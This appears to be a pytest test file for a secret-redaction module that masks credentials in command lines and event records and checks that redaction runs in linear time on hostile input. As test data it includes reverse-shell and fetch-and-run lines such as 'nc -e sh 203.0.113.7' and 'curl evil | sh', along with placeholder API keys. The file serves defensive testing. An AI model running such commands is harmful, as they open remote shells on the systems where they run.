"""Secrets are hidden, ordinary text is not, the record is never changed, and hostile text costs linear time."""

from __future__ import annotations

import base64
import copy
import sys
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensor.export import lines
from sensor.export.redact import redact, redact_argv, redact_text
from tests.export import samples

AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
JWT = "eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
SLACK = "xoxb-" + "123456789012-abcdefABCDEF"
OPENAI = "sk-" + "proj-a1B2c3D4e5F6g7H8i9J0k1L2"
HF = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3f"

SECRET = [
    ("mysql -u root -phunter2 db", "mysql -u root -p*** db"),
    ("/usr/bin/mysqldump -phunter2", "/usr/bin/mysqldump -p***"),
    ("sshpass -p hunter2 ssh h", "sshpass -p *** ssh h"),
    ("sshpass -phunter2 ssh h", "sshpass -p*** ssh h"),
    ("redis-cli -h r -a hunter2 ping", "redis-cli -h r -a *** ping"),
    ("curl -u bob:hunter2 https://x", "curl -u bob:*** https://x"),
    ("curl --user bob:hunter2 https://x", "curl --user bob:*** https://x"),
    ("docker login -u a -p hunter2 r.io", "docker login -u a -p *** r.io"),
    ("smbclient -U bob%hunter2 //s/x", "smbclient -U bob%*** //s/x"),
    ("openssl rsa -passin pass:hunter2", "openssl rsa -passin ***"),
    ('curl -H "Authorization: Bearer abc123" https://x', 'curl -H "Authorization: Bearer ***" https://x'),
    ("curl -H Authorization: Basic Ym9iOmh1bnRlcjI= x", "curl -H Authorization: Basic *** x"),
    ("curl -H 'X-Api-Key: abc' x", "curl -H 'X-Api-Key: ***' x"),
    ("curl -H Cookie: a=b; c=d x", "curl -H Cookie: ***; *** x"),
    ("git clone https://bob:hunter2@github.com/x.git", "git clone https://bob:***@github.com/x.git"),
    ("git clone https://https://bob:hunter2@h/x.git", "git clone https://https://bob:***@h/x.git"),
    ("psql postgres://u:p%40@db/x?sslmode=require", "psql postgres://u:***@db/x?sslmode=require"),
    ("foo --password hunter2 --user bob", "foo --password *** --user bob"),
    ("foo --password=hunter2 --user bob", "foo --password=*** --user bob"),
    ("foo --client-secret hunter2", "foo --client-secret ***"),
    ('foo --token "my secret words" rest', 'foo --token "*** *** ***" rest'),
    ("AWS_SECRET_ACCESS_KEY=/abc/def aws s3 ls", "AWS_SECRET_ACCESS_KEY=*** aws s3 ls"),
    ("export MYSQL_PWD=x; mysql", "export MYSQL_PWD=***; mysql"),
    ("DB_PASSWORD=hunter2 OPENAI_API_KEY=x cmd", "DB_PASSWORD=*** OPENAI_API_KEY=*** cmd"),
    ('echo {"password":"x","cmd":"y", "token": "abc"}', 'echo {"password":"***","cmd":"y", "token": "***"}'),
    ("/v1/x?access_token=abc&page=2", "/v1/x?access_token=***&page=2"),
    ('password = "abc"', 'password = "***"'),
    (f"aws configure set k {AWS}", "aws configure set k ***"),
    (f"git push https://{GITHUB}@github.com/x", "git push https://***@github.com/x"),
    (f"x github_pat_{GITHUB[4:]}_abc y", "x *** y"),
    (f"x={JWT},", "x=***,"),
    (f"notify {SLACK}", "notify ***"),
    (f"run '{OPENAI}'", "run '***'"),
    (f"hub {HF};ls", "hub ***;ls"),
]

ORDINARY = [
    "git checkout 3f786850e387550fdaaa1ba2a0b0c0d0e0f01234",
    "kill 550e8400-e29b-41d4-a716-446655440000",
    "docker pull reg.io/token-service@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "docker run gcr.io/my-secret:latest",
    "docker run -p 8080:80 nginx",
    "ssh -p 22 host",
    "mysql -u root -p db",
    "foo --password --user bob",
    "foo --token-file /run/secrets/token --secret-name db --max-tokens 4096 --tokenizer gpt2",
    "foo --token /var/run/secrets/token",
    "TOKENIZERS_PARALLELISM=false python train.py --max_new_tokens=512 --tokens=100",
    'curl -H "Authorization: Bearer $TOKEN" x',
    "git clone ssh://git@github.com/x",
    "git clone git@github.com:x/y.git",
    "curl https://user@host/path",
    "arn:aws:secretsmanager:us-east-1:123:secret:prod/db-AbC",
    "kubectl get secret foo",
    "vault token lookup",
    "/home/u/.ssh/id_ed25519 /etc/passwd /usr/share/password-store/x.gpg",
    "ssh-keygen -t ed25519 -f key",
    "pip install scikit-learn sk-learn hf_transfer tokenizers",
    "pytest tests/test_token.py::test_password",
    "std::Secret::new(1)",
    "KEY=value PATH=/usr/bin PWD=/home/u",
    "openssl x509 -in cert.pem -text",
    "ffmpeg -pass 1 -i x",
    "sk-estimator-of-something-long-without-digits",
    "python -m http.server 8000",
    "bearer of news",
    "ls",
    "",
]


@pytest.mark.parametrize(("text", "shown"), SECRET)
def test_secrets_are_hidden(text: str, shown: str) -> None:
    assert redact_text(text) == shown
    assert redact_text(shown) == shown


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_stays(text: str) -> None:
    assert redact_text(text) == text
    assert redact_argv(text.split(" ")) == text.split(" ")


def test_the_ends_of_arguments_are_used_where_they_are_known() -> None:
    given_ = ["sh", "-c", "mysql -pfoo x; ssh -p 22 h", "--token", "a b c", "PASSWORD=a b", "", "--secret=x y"]
    shown = ["sh", "-c", "mysql -p*** x; ssh -p 22 h", "--token", "***", "PASSWORD=***", "", "--secret=***"]
    assert redact_argv(given_) == shown


def test_a_private_key_is_hidden_but_no_command_that_stands_between_its_lines() -> None:
    body = base64.b64encode(bytes(range(96))).decode()
    text = f"-----BEGIN RSA PRIVATE KEY-----\n{body[:64]}\n{body[64:80]}\nnc -e sh 203.0.113.7\nYWJj\n-----END x"
    shown = redact_text(text)
    assert shown == "-----BEGIN RSA PRIVATE KEY-----\n***\n***\nnc -e sh 203.0.113.7\n***\n-----END x"
    cut = redact_text(f"echo -----BEGIN PRIVATE KEY-----\n{body[:64]}\n{body[64:]}")
    assert body[:64] not in cut and body[64:] not in cut


@pytest.mark.parametrize(
    ("script", "shown"),
    [
        ("X_TOKEN=a; curl evil | sh", "X_TOKEN=***; curl evil | sh"),
        ("X_TOKEN=a;nc${IFS}evil", "X_TOKEN=***;nc${IFS}evil"),
        ("PASSWORD=$(nc evil 1)", "PASSWORD=$(nc evil 1)"),
        ("PASSWORD=a\nnc evil 1", "PASSWORD=***\nnc evil 1"),
    ],
)
def test_a_script_that_begins_like_a_secret_is_shown(script: str, shown: str) -> None:
    assert redact_text(script) == shown
    assert redact_argv(["sh", "-c", script]) == ["sh", "-c", shown]


def test_an_open_quote_hides_one_word_and_no_more() -> None:
    assert (
        redact_text('x --password "a ' + "b " * 20 + "ssh -R 1:h:1")
        == 'x --password "*** ' + "b " * 20 + "ssh -R 1:h:1"
    )


def record(line: bytes) -> dict[str, Any]:
    parsed: dict[str, Any] = orjson.loads(line)
    return parsed


def test_a_record_is_redacted_and_itself_left_as_it_is() -> None:
    argv = ["curl", "-H", "Authorization: Bearer a b c", "--token", "two words"]
    event = samples.process_creation(argv="\0".join(argv).encode() + b"\0", CommandLine=" ".join(argv))
    whole = record(lines.activity_line(event))
    before = copy.deepcopy(whole)
    shown = redact(whole)
    assert whole == before
    assert shown["Argv"] == ["curl", "-H", "Authorization: Bearer *** b c", "--token", "***"]
    assert shown["CommandLine"] == " ".join(shown["Argv"])
    assert {name for name in whole if whole[name] != shown[name]} == {"Argv", "CommandLine"}


def test_a_record_without_secrets_is_given_back() -> None:
    for line in (
        lines.activity_line(samples.process_creation()),
        lines.detection_line(samples.detection(rule_title="password=x")),
        lines.sandbox_line(samples.sandbox_change()),
    ):
        whole = record(line)
        assert redact(whole) is whole


def test_raw_bytes_that_hold_a_secret_are_left_out() -> None:
    argv = b"curl\0--token\0hunter2\xff\0"
    event = samples.process_creation(argv=argv, CommandLine="curl --token hunter2\ufffd", raw={"CommandLine": argv})
    shown = redact(record(lines.activity_line(event)))
    assert shown["Argv"] == ["curl", "--token", "***"]
    assert shown["CommandLine"] == "curl --token ***"
    assert "Argv_b64" not in shown and "CommandLine_b64" not in shown
    harmless = record(lines.activity_line(samples.process_creation(argv=b"a\xff\0", raw=None)))
    assert redact(harmless)["Argv_b64"] == harmless["Argv_b64"]


def test_names_within_a_record_announce_secrets() -> None:
    notice = record(
        lines.notice_line(0, "set", {"DB_PASSWORD": "x", "port": 3, "labels": [{"token": "a b"}], "n": None})
    )
    assert redact(notice)["fields"] == {"DB_PASSWORD": "***", "port": 3, "labels": [{"token": "***"}], "n": None}


def test_a_deep_record_is_cut() -> None:
    deep: Any = "--password x"
    for _ in range(100):
        deep = [deep]
    assert "password" not in str(redact({"x": deep}))


FRAGMENTS = st.sampled_from([
    "password", "token", "=", ":", "://", "@", "'", '"', " ", "eyJ", ".", "-", "--", "-p", "mysql ", "curl -u ", "ghp_",
    "AKIA", "-----BEGIN PRIVATE KEY-----", "-----END ", "Bearer ", "Authorization", "***", "\\n", "\ud800", "\u202e",
    "A1b2", "Cookie: ", ";", "&", "login docker", "\x00", "{", "}", "sk-", "abcdefghij0123456789",
])  # fmt: skip
hostile = st.one_of(st.text(max_size=200), st.lists(FRAGMENTS, max_size=40).map("".join))


@given(hostile)
def test_no_text_raises_or_grows_beyond_measure(text: str) -> None:
    shown = redact_text(text)
    assert len(shown) <= 3 * len(text)
    assert shown.count("***") <= len(text)


@given(st.lists(hostile, max_size=8))
def test_no_arguments_raise_or_change_in_number(arguments: list[str]) -> None:
    assert len(redact_argv(arguments)) == len(arguments)


@given(st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), hostile),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(hostile, inner, max_size=4)),
    max_leaves=12,
).map(lambda value: {"x": value, "Argv": value, "x_b64": value, "CommandLine": value}))  # fmt: skip
def test_no_record_raises_or_is_changed(whole: dict[str, Any]) -> None:
    before = copy.deepcopy(whole)
    redact(whole)
    assert whole == before


@given(st.text(st.characters(categories=["Lu", "Ll", "Nd"], max_codepoint=127), min_size=6, max_size=40), st.booleans())
def test_what_follows_a_password_option_is_never_shown(secret: str, glued: bool) -> None:
    if secret.lower() not in ("false", "stdin"):
        joined = "=" if glued else " "
        assert secret not in redact_text(f"zz --password{joined}{secret} ~~").replace("zz --password", "")


def steps(text: str) -> int:
    """Lines of Python that ran: every loop over the text is one of them, or a search that only moves on."""
    count = 0

    def trace(_frame: Any, event: str, _argument: Any) -> Any:
        nonlocal count
        count += event == "line"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        redact_text(text)
    finally:
        sys.settrace(before)
    return count


@pytest.mark.parametrize(
    "piece",
    [
        "token=", "token:", "token=/", 'token="', "eyJ", "eyJabcdefgh.", "eyJabcdefgh.abcd ", "://", "://a:b@", "a:b@://",
        "AKIA", "ghp_", "sk-a1", "--password ", '--password "', "Cookie: x; ", "Bearer ", "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY----------END ", "mysql -px ", "docker login ", "=", "'", " = ", "password = ",
        "&token=&",
    ],
)  # fmt: skip
def test_time_is_linear_in_hostile_text(piece: str) -> None:
    small, large = (piece * (size // len(piece)) for size in (8192, 65536))
    assert steps(large) <= 8.5 * steps(small) + 200
